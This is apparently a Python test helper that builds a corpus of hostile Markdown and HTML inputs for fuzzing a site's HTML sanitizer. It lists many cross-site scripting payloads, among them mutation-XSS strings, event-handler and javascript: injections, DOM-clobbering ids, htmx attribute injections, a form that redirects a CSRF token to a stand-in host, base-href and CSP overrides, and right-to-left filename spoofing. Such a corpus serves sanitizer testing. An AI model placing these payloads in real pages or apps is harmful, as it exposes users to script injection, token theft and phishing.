"""Hostile Markdown: what others tried before, in every place of the syntax where words may stand, and mixtures from a grammar."""

import random
from collections.abc import Iterator

from sspedu.curriculum.safety import is_tame
from tests.curriculum.test_safe_html import CONTEXTS, LINKS, SCRIPTS, TARGETS

# Names that our scripts, the browser or a library asks the page for.
NAMES = (
    *("main-content", "side-fejl-sted", "side-fejl", "side-beskeder", "tekst", "svar", "indlaeg-1", "indlaeg-1-hoved", "spurgt", "fn-p1-1", "fnref-p1-1"),
    *("body", "forms", "location", "cookie", "getElementById", "querySelector", "documentElement", "dataset", "elements", "submit", "action", "htmx", "csrf_token"),
)  # fmt: skip
WORDS_OF_OURS = (
    *('hx-get="//ond.example"', 'hx-on:click="alert(1)"', "hx-trigger=load", 'data-hx-post="/log-ud"', 'hx-swap-oob="true"', "data-draft=/log-ud", "data-news", "data-print"),
    *("data-report", "data-quote=//ond.example", "data-activity", "data-focus autofocus tabindex=0", "data-counts=tekst", "data-preview", "data-colleagues=//ond.example"),
    *('class="alert alert-success site-header"', 'class="button"', "style=position:fixed;inset:0", "target=_top", "contenteditable", "accesskey=s", "popover", "is=x-y", "slot=x", "part=y"),
    *("onclick=alert(1)", "onpointerenter=alert(1)", "onanimationstart=alert(1)", "onbeforetoggle=alert(1)", "onfocusin=alert(1) autofocus", "ping=//ond.example", "srcset=//ond.example"),
)  # fmt: skip
ELEMENTS = ("p", "a", "div", "img", "form", "input", "button", "li", "td", "details", "dialog", "select", "textarea", "svg", "math", "x-y")
MUTATIONS = (
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><div><script>alert(1)</script></div></foreignObject></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a><animate attributeName=href values=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'></svg>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<table><tr><td></table><script>alert(1)</script>",
    "<select><noembed></select><script>alert(1)</script></noembed>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "</div></li></ol></main></body><script>alert(1)</script>",
    "</textarea></form><form action=//ond.example><input name=csrf_token>",
    "<base href=//ond.example/><base target=_top>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<link rel=prefetch href=//ond.example/x><link rel=dns-prefetch href=//ond.example>",
    "<style>*{background:url(//ond.example/css)}</style>",
    "<a href='https://x.dk/' style='position:fixed;inset:0'>Log ind igen</a>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><applet code=x>",
    "<iframe sandbox srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "\u202egnp.exe\u202c txt.\u2066\u202e<b>vendt\u2069",
    "a\u202e[txet](https://x.dk/\u202egpj.exe)\u202d",
    "![fjern](https://ond.example/maal.png)![f](//ond.example/b.gif)![d](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<p/onclick=alert(1)/>\x0c<p\x0bonclick=alert(1)>\x00<\x00script>alert(1)</script>",
    '[x](https://x.dk/ "t" onclick="alert(1)")',
    "[a]: https://x.dk/ '\"onclick=alert(1) x=\"'\n\n[a] [a][a] ![a]",
    '*[SSP]: "onmouseover=alert(1) x="\n\nSSP og SSP',
    "`<script>alert(1)</script>` ``` `` <img src=x onerror=alert(1)>",
    "~~~html\n<script>alert(1)</script>\n~~~\n<script>alert(2)</script>",
    "|a|<script>alert(1)</script>|\n|:-|-:|\n|<img src=x onerror=alert(1)>|</table><b>|",
    "> " * 11 + "<b>" * 40 + "</i>" * 40,
    "- a\n  - b\n    - c\n1. </ul></ol></li><script>alert(1)</script>",
)
MARKS = ("**", "__", "*", "_", "`", "``", "[", "]", "](", ")", "![", "<", ">", "&", "&#", ";", '"', "'", "\\", "\n", "\n\n", "\n    ", "\n> ", "\n- ", "\n1. ", "|", "\n|-|-|\n", "[^1]", "\n[^1]: ", "\n*[x]: ", "\n: ", "\n# ", "\n===\n", "\n/// note\n", "\n///\n", "{", "}", "\x00", "\u2028", "\ufeff", "\u202e", "\u200d", "\x02", "\x03", "\ue002", "wzxhzdk:0")  # fmt: skip


def hostile_texts(mixtures: int) -> list[str]:
    """Return every payload in every context, what clobbers names, and so many mixtures; the same each time, all tame enough to be many."""
    return [text for text in dict.fromkeys([*_by_hand(), *_mixtures(mixtures)]) if is_tame(text)]


def _by_hand() -> Iterator[str]:
    yield from MUTATIONS
    for place, context in enumerate(CONTEXTS):
        yield from (context.replace("{}", script) for script in (*SCRIPTS, *MUTATIONS)[place % 2 :: 2])
    for link in LINKS:
        yield from (link.replace("{}", target) for target in TARGETS)
    for name in NAMES:
        yield from (
            f"# {name}",
            f"/// case | {name}\n    id: {name}\n\nHej\n///",
            f"Hej[^{name}]\n\n[^{name}]: {name}",
            f"<a id={name} name={name}>x</a>",
        )
    for words in WORDS_OF_OURS:
        yield from (f"<{element} {words}>Hej</{element}>" for element in ELEMENTS)
        yield from (f"[Hej](https://x.dk/?a={words})", f'[Hej](https://x.dk "{words}")', f"# Titel {{: {words} }}")


def _mixtures(count: int) -> Iterator[str]:
    choose = random.Random(1)
    pieces = (*SCRIPTS, *TARGETS, *MUTATIONS, *(f"<p {words}>" for words in WORDS_OF_OURS), *(MARKS * 3))
    for _ in range(count):
        yield "".join(choose.choices(pieces, k=choose.randint(3, 12)))
